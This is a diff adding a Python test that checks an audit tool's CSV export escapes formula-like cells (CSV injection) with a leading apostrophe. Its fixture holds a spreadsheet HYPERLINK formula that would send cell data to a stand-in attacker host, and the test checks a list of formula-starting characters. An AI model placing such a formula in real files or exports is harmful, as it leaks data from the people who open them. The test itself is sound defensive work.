@@ -500,3 +500,24 @@ def test_legacy_files_continued_by_a_keyed_chain_are_verified(tmp_path: Path, tr
     assert by_name(data)["sf"]["rotations"] == {"succeeded": 2, "failed": 1, "skipped": 0}
     code, wrong = report(files, key=secrets.token_bytes(32))  # the pin needs the right key
     assert code == 1 and wrong["chain"]["unverified_lines"] == wrong["chain"]["lines"]
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path, trail: dict[str, Any], run_cli) -> None:
+    """A name or reason in a (validly chained) audit line that starts like a formula is written
+    with a leading apostrophe, so a spreadsheet shows it as text (CSV injection)."""
+    evil = '=HYPERLINK("https://attacker.example/?x="&A1,"ok")'
+    events = [json.loads(line) for line in trail["path"].read_text().splitlines()]
+    failed = next(e for e in events if e["event"] == "rotation.failed")
+    template = [{**e, "credential": evil, **({"reason": "@SUM(1+1)"} if e is failed else {})}
+                for e in events if e.get("rotation_id") == failed["rotation_id"]]
+    path = replay(tmp_path / "evil.jsonl", template, [0], trail["key"])
+    per_credential = run_cli("audit", "report", path, "--csv", "--key-file", trail["key_file"])
+    rows = list(csv.DictReader(io.StringIO(per_credential.out)))
+    assert per_credential.code == 0 and rows[0]["chain_verified"] == "true"
+    assert [r["credential"] for r in rows] == ["'" + evil]
+    assert rows[0]["failed"] == "1"  # numbers stay numbers
+    per_event = run_cli("audit", "report", path, "--csv-events", "--key-file", trail["key_file"])
+    event_rows = list(csv.DictReader(io.StringIO(per_event.out)))
+    assert event_rows and {r["credential"] for r in event_rows} == {"'" + evil}
+    assert "'@SUM(1+1)" in {r["detail"] for r in event_rows}
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in event_rows for cell in r.values())
